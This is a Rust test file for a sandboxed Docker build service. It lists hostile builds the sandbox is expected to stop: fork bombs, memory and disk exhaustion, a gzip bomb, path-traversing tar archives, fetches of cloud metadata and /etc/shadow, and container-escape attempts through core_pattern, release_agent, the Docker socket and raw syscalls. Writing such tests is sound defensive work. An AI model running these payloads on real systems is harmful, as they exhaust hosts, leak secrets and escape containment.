//! The table of hostile builds.

use std::io::Write;

use labs::sandbox::Stop;

use crate::End::{self, Built, By, Failed};
use crate::{Case, common::context};

const MEMORY: &[End] = &[By(Stop::Memory)];
const PIDS: &[End] = &[By(Stop::Pids)];
/// A bomb hits several limits at once; which is met first depends on the machine. Each is named rightly.
const BOMB: &[End] = &[By(Stop::Pids), By(Stop::Memory), By(Stop::Log), By(Stop::Time)];
const DISK: &[End] = &[By(Stop::Disk)];
const TIME: &[End] = &[By(Stop::Time)];
const LOG: &[End] = &[By(Stop::Log)];
const FAILED: &[End] = &[Failed];
/// Builds without a way out of them: any named end will do, as long as it ends.
const ANY_LIMIT: &[End] =
    &[Failed, By(Stop::Time), By(Stop::Memory), By(Stop::EngineDied), By(Stop::Disk), By(Stop::Log)];
const HARMLESS: &[End] = &[Built, Failed];

fn case(name: &'static str, dockerfile: &str, ends: &'static [End]) -> Case {
    Case { name, context: context(&[("Dockerfile", dockerfile)]), ends, never: None }
}

/// A RUN instruction on the Alpine-like base.
fn shell(name: &'static str, run: &str, ends: &'static [End]) -> Case {
    case(name, &format!("FROM alpine:3.22\nRUN {run}\n"), ends)
}

/// A Python script on the slim base.
fn python(name: &'static str, script: &str, ends: &'static [End]) -> Case {
    case(name, &format!("FROM python:3.13-slim\nRUN <<END\n#!/usr/local/bin/python3\n{script}\nEND\n"), ends)
}

/// A context with one entry that no honest archive has; the Dockerfile comes first.
fn odd(name: &'static str, dockerfile: &str, entry: Entry<'_>, ends: &'static [End]) -> Case {
    let mut bytes = context(&[("Dockerfile", dockerfile)]);
    // Without the two empty blocks of the end.
    bytes.truncate(bytes.len() - 1024);
    let mut header = tar::Header::new_gnu();
    header.as_old_mut().name[..entry.name.len()].copy_from_slice(entry.name.as_bytes());
    header.as_old_mut().linkname[..entry.link.len()].copy_from_slice(entry.link.as_bytes());
    header.set_entry_type(entry.kind);
    header.set_mode(0o666);
    header.set_uid(0);
    header.set_gid(0);
    header.set_mtime(0);
    header.set_size(entry.content.len() as u64);
    header.set_device_major(entry.device.0).unwrap();
    header.set_device_minor(entry.device.1).unwrap();
    header.set_cksum();
    bytes.extend_from_slice(header.as_bytes());
    bytes.extend_from_slice(entry.content);
    bytes.resize(bytes.len().next_multiple_of(512) + 1024, 0);
    Case { name, context: bytes, ends, never: None }
}

struct Entry<'a> {
    name: &'a str,
    link: &'a str,
    kind: tar::EntryType,
    device: (u32, u32),
    content: &'a [u8],
}

const PLAIN: Entry<'static> =
    Entry { name: "x", link: "", kind: tar::EntryType::Regular, device: (0, 0), content: b"x\n" };

/// A gzipped tar archive of one file of zeros.
fn bomb(megabytes: u64) -> Vec<u8> {
    let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    let mut header = tar::Header::new_gnu();
    header.set_path("zeros").unwrap();
    header.set_size(megabytes << 20);
    header.set_mode(0o644);
    header.set_cksum();
    gzip.write_all(header.as_bytes()).unwrap();
    let piece = vec![0; 1 << 20];
    for _ in 0..megabytes {
        gzip.write_all(&piece).unwrap();
    }
    gzip.write_all(&[0; 1024]).unwrap();
    gzip.finish().unwrap()
}

/// An archive whose entries climb out of where they are unpacked.
fn climbing() -> Vec<u8> {
    let mut archive = tar::Builder::new(Vec::new());
    let entry = |name: &str, link: &str, kind| {
        let mut header = tar::Header::new_gnu();
        header.as_old_mut().name[..name.len()].copy_from_slice(name.as_bytes());
        header.as_old_mut().linkname[..link.len()].copy_from_slice(link.as_bytes());
        header.set_entry_type(kind);
        header.set_mode(0o666);
        header.set_size(0);
        header.set_cksum();
        header
    };
    for header in [
        entry("../../../../../../tmp/drydock-escaped", "", tar::EntryType::Regular),
        entry(ESCAPED, "", tar::EntryType::Regular),
        entry("out", "../../../../../../../../tmp", tar::EntryType::Symlink),
        entry("out/drydock-escaped", "", tar::EntryType::Regular),
        entry("shadow", "../../../../../../../../etc/shadow", tar::EntryType::Link),
    ] {
        archive.append(&header, std::io::empty()).unwrap();
    }
    archive.into_inner().unwrap()
}

pub fn secret_path() -> String {
    format!("/tmp/drydock-secret-{}", std::process::id())
}

/// A file of the host that nobody in a sandbox may see.
fn secret() -> (String, String) {
    let path = secret_path();
    let text = format!("host-secret-{}", std::process::id());
    std::fs::write(&path, &text).unwrap();
    (path, text)
}

/// All of them, in groups: after each the next honest submission is looked at.
pub fn groups() -> [Vec<Case>; 7] {
    [
        processes_and_memory(),
        disk(),
        time_and_output(),
        other_images_and_addresses(),
        contexts(),
        out_of_the_container(),
        absurd_sources(),
    ]
}

/// Where a context or an archive that climbs out would leave its file on the machine.
pub const ESCAPED: &str = "/tmp/drydock-escaped";

fn processes_and_memory() -> Vec<Case> {
    vec![
        shell("fork bomb of the shell", "b() { b | b & }; b; sleep 8; b; exit 1", BOMB),
        python("fork bomb of Python", "import os\nwhile True: os.fork()", BOMB),
        python(
            "threads without end",
            "import threading, time\nwhile True: threading.Thread(target=time.sleep, args=(60,)).start()",
            PIDS,
        ),
        python(
            "fork bomb of daemons",
            "import os\nwhile True:\n  try:\n    if os.fork() == 0: os.setsid()\n  except OSError: pass",
            BOMB,
        ),
        shell("background jobs without end", "while :; do sleep 100 & done; exit 1", BOMB),
        python("memory of one process", "x = []\nwhile True: x.append(b'x' * (8 << 20))", MEMORY),
        python(
            "memory of many processes",
            "import os, time\nfor i in range(12):\n  if os.fork() == 0: x = b'x' * (60 << 20); time.sleep(20)\n\
             for i in range(12):\n  if os.wait()[1]: raise SystemExit(1)",
            MEMORY,
        ),
        case(
            "memory by a tmpfs",
            "FROM alpine:3.22\nRUN --mount=type=tmpfs,target=/t dd if=/dev/zero of=/t/x bs=1M count=900\n",
            MEMORY,
        ),
        shell("shared memory", "dd if=/dev/zero of=/dev/shm/x bs=1M count=900", &[Failed, By(Stop::Memory)]),
    ]
}

fn disk() -> Vec<Case> {
    let many = "FROM alpine:3.22\n".to_owned() + &"RUN dd if=/dev/urandom of=/x bs=1M count=60 && cp /x /y\n".repeat(6);
    vec![
        shell("disk by one file", "dd if=/dev/zero of=/x bs=1M count=900", DISK),
        shell("disk by many files", "for i in $(seq 300); do head -c 4000000 /dev/zero > /x$i || exit 1; done", DISK),
        python(
            "disk by empty files",
            "import os\nos.mkdir('/d')\nfor i in range(1000000):\n  if i % 5000 == 0: os.mkdir(f'/d/{i}'); d = f'/d/{i}/'\n  \
             os.close(os.open(d + str(i), os.O_CREAT))",
            &[By(Stop::Disk), By(Stop::Time)],
        ),
        case("disk by many layers", &many, DISK),
        case(
            "disk by a cache mount",
            "FROM alpine:3.22\nRUN --mount=type=cache,target=/c dd if=/dev/zero of=/c/x bs=1M count=900\n",
            DISK,
        ),
        Case {
            name: "zip bomb through ADD",
            context: {
                let bomb = bomb(700);
                let mut archive = tar::Builder::new(Vec::new());
                let text = b"FROM alpine:3.22\nADD bomb.tar.gz /\n".as_slice();
                for (name, bytes) in [("Dockerfile", text), ("bomb.tar.gz", bomb.as_slice())] {
                    let mut header = tar::Header::new_gnu();
                    header.set_size(bytes.len() as u64);
                    header.set_mode(0o644);
                    archive.append_data(&mut header, name, bytes).unwrap();
                }
                archive.into_inner().unwrap()
            },
            ends: &[By(Stop::Disk), By(Stop::EngineDied), By(Stop::Memory), By(Stop::Time)],
            never: None,
        },
    ]
}

fn time_and_output() -> Vec<Case> {
    vec![
        shell("silence without end", "sleep 1000", TIME),
        shell("work without end", "while :; do :; done", TIME),
        shell("output without end", "yes", LOG),
        shell("one endless line", "tr '\\\\0' a < /dev/zero", LOG),
        shell("NUL without end", "cat /dev/zero", LOG),
        shell(
            "terminal codes without end",
            "while :; do printf '\\033[2J\\033[1A\\007'; done",
            &[By(Stop::Log), By(Stop::Time)],
        ),
        shell("a process left behind", "nohup sleep 1000 > /dev/null 2>&1 & true", &[Built]),
        case("ONBUILD without end", "FROM alpine:3.22 AS a\nONBUILD RUN sleep 1000\nFROM a\n", TIME),
    ]
}

fn other_images_and_addresses() -> Vec<Case> {
    // No number: `--from=0` would be a stage.
    let digest = "f".repeat(64);
    let by_digest = format!("FROM alpine@sha256:{digest}\n");
    vec![
        case("another image", "FROM nginx:1.29\n", FAILED),
        case("an image by digest", &by_digest, FAILED),
        case("an image by its id", &format!("FROM {digest}\n"), FAILED),
        case("an image by its id, by COPY", &format!("FROM alpine:3.22\nCOPY --from={digest} /etc /x\n"), FAILED),
        case("another image by COPY", "FROM alpine:3.22\nCOPY --from=nginx:1.29 /etc /x\n", FAILED),
        case(
            "another image by mount",
            "FROM alpine:3.22\nRUN --mount=type=bind,from=drydock/sandbox,target=/x ls /x\n",
            FAILED,
        ),
        case("a foreign syntax", "# syntax=evil.example/frontend\nFROM alpine:3.22\n", FAILED),
        case(
            "an insecure RUN",
            "# syntax=docker/dockerfile:1-labs\nFROM alpine:3.22\nRUN --security=insecure id\n",
            FAILED,
        ),
        case("an insecure RUN of the builder itself", "FROM alpine:3.22\nRUN --security=insecure id\n", FAILED),
        case("the host's network", "FROM alpine:3.22\nRUN --network=host ip route | grep default\n", FAILED),
        case("ADD from loopback", "FROM alpine:3.22\nADD http://127.0.0.1:2375/info /x\n", FAILED),
        case("ADD from link-local", "FROM alpine:3.22\nADD http://169.254.169.254/latest/meta-data /x\n", FAILED),
        case("ADD from a file address", "FROM alpine:3.22\nADD file:///etc/shadow /x\n", FAILED),
        case("ADD from git", "FROM alpine:3.22\nADD https://github.com/moby/moby.git /x\n", FAILED),
        shell("a way out", "wget -T 3 -O - http://1.1.1.1/", FAILED),
        case(
            "a secret of nobody",
            "FROM alpine:3.22\nRUN --mount=type=secret,id=x,required=true cat /run/secrets/x\n",
            FAILED,
        ),
        case("an agent of nobody", "FROM alpine:3.22\nRUN --mount=type=ssh,required=true true\n", FAILED),
    ]
}

fn contexts() -> Vec<Case> {
    use tar::EntryType;
    let (path, text) = secret();
    let copy = "FROM alpine:3.22\nCOPY x /x\nRUN cat /x; exit 1\n";
    let with_secret = |case: Case| Case { never: Some(text.clone()), ..case };
    vec![
        odd(
            "a name with ..",
            "FROM alpine:3.22\n",
            Entry { name: "../../../../../../tmp/drydock-escaped", ..PLAIN },
            HARMLESS,
        ),
        odd("an absolute name", "FROM alpine:3.22\n", Entry { name: "/tmp/drydock-escaped", ..PLAIN }, HARMLESS),
        with_secret(odd(
            "a symlink to the host",
            copy,
            Entry { link: &path, kind: EntryType::Symlink, content: b"", ..PLAIN },
            FAILED,
        )),
        with_secret(odd(
            "a hard link to the host",
            copy,
            Entry { link: &path, kind: EntryType::Link, content: b"", ..PLAIN },
            FAILED,
        )),
        with_secret(odd(
            "a Dockerfile that is a link",
            "",
            Entry { name: "Dockerfile", link: &path, kind: EntryType::Symlink, content: b"", ..PLAIN },
            FAILED,
        )),
        odd(
            "a disk's device",
            "FROM alpine:3.22\nCOPY x /x\nRUN head -c 1 /x\n",
            Entry { kind: EntryType::Block, device: (7, 0), content: b"", ..PLAIN },
            FAILED,
        ),
        odd(
            "a FIFO",
            "FROM alpine:3.22\nCOPY x /x\n",
            Entry { kind: EntryType::Fifo, content: b"", ..PLAIN },
            &[Built, Failed, By(Stop::Time)],
        ),
        Case {
            name: "an archive through ADD that climbs out",
            context: {
                let (text, climbing) = (b"FROM alpine:3.22\nADD a.tar /a/\n".as_slice(), climbing());
                let mut archive = tar::Builder::new(Vec::new());
                for (name, bytes) in [("Dockerfile", text), ("a.tar", climbing.as_slice())] {
                    let mut header = tar::Header::new_gnu();
                    header.set_size(bytes.len() as u64);
                    header.set_mode(0o644);
                    archive.append_data(&mut header, name, bytes).unwrap();
                }
                archive.into_inner().unwrap()
            },
            ends: HARMLESS,
            never: None,
        },
        Case { name: "no archive at all", context: b"no archive".to_vec(), ends: FAILED, never: None },
        Case { name: "a context of nothing", context: Vec::new(), ends: FAILED, never: None },
    ]
}

fn out_of_the_container() -> Vec<Case> {
    const SYSCALL: &str = "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n";
    let refused = |name, call: &str| {
        python(name, &format!("{SYSCALL}result = {call}\nprint(result)\nraise SystemExit(result == -1)"), FAILED)
    };
    vec![
        shell("a mount", "mount -t tmpfs none /mnt", FAILED),
        shell("a device node", "mknod /x b 7 0 && head -c 1 /x", FAILED),
        shell("global settings", "echo '|/x' > /proc/sys/kernel/core_pattern", FAILED),
        shell("a setting below /sys", "echo /x > /sys/kernel/uevent_helper", FAILED),
        shell("the system request key", "echo b > /proc/sysrq-trigger", FAILED),
        shell(
            "a cgroup's limits",
            "cd /sys/fs/cgroup; for f in memory/memory.limit_in_bytes pids/pids.max memory.max pids.max; do [ -e $f ] && echo max > $f && exit; done; exit 1",
            FAILED,
        ),
        shell("release_agent", "mkdir /c && mount -t cgroup -o rdma cgroup /c && echo /x > /c/release_agent", FAILED),
        shell("the engine's socket", "ls /sock/docker.sock || ls /var/run/docker.sock || ls /run/docker.sock", FAILED),
        shell("loop devices", "ls /dev/loop0 /dev/loop-control", FAILED),
        shell("kernel memory", "head -c 1 /proc/kcore || head -c 1 /dev/mem", FAILED),
        python("the clock", "import time; time.clock_settime(time.CLOCK_REALTIME, 1000000000)", FAILED),
        shell(
            "setuid without gain",
            "chmod u+s /bin/busybox && adduser -D u && ! su u -c 'echo x > /proc/sys/kernel/hostname'",
            &[Built],
        ),
        refused("a user namespace", "libc.unshare(0x10000000)"),
        refused("ptrace", "libc.ptrace(16, 1, 0, 0)"),
        refused("a kernel module", "libc.syscall(175, b'x', 1, b'')"),
        refused("the keyring", "libc.syscall(248, b'user', b'x', b'y', 1, -3)"),
        refused("bpf", "libc.syscall(321, 0, 0, 0)"),
        refused("a file by its handle", "libc.syscall(304, 3, 0, 0)"),
        refused("io_uring", "libc.syscall(425, 8, b'x' * 200)"),
    ]
}

fn absurd_sources() -> Vec<Case> {
    let mut expansion = format!("FROM alpine:3.22\nARG a0={}\n", "x".repeat(64));
    for level in 1..28 {
        expansion.push_str(&format!("ARG a{level}=${{a{}}}${{a{}}}\n", level - 1, level - 1));
    }
    expansion.push_str("RUN echo ${a27}\n");
    let instructions = "FROM alpine:3.22\n".to_owned() + &"RUN true\n".repeat(3000);
    let mut stages = "FROM alpine:3.22 AS s0\n".to_owned();
    for stage in 1..1500 {
        stages.push_str(&format!("FROM s{} AS s{stage}\nRUN echo {stage}\n", stage - 1));
    }
    let environment = format!("FROM alpine:3.22\nENV x={}\nRUN true\n", "y".repeat(10 << 20));
    let comment = format!("# {}\nFROM alpine:3.22\n", "c".repeat(4 << 20));
    vec![
        case("an expansion that doubles", &expansion, ANY_LIMIT),
        case("thousands of instructions", &instructions, ANY_LIMIT),
        case("thousands of stages", &stages, ANY_LIMIT),
        case("a variable of 10 MB", &environment, ANY_LIMIT),
        case("a comment of 4 MB", &comment, HARMLESS),
        case("names like flags", "FROM alpine:3.22 AS --help\nWORKDIR -e\nCOPY --from=-e -e -e\n", FAILED),
        case("no instruction", "", FAILED),
        case("no sense", "\u{0}\u{1}\u{2}FROM\n", FAILED),
        case("a stage that copies itself", "FROM alpine:3.22 AS a\nCOPY --from=a /x /x\n", FAILED),
    ]
}
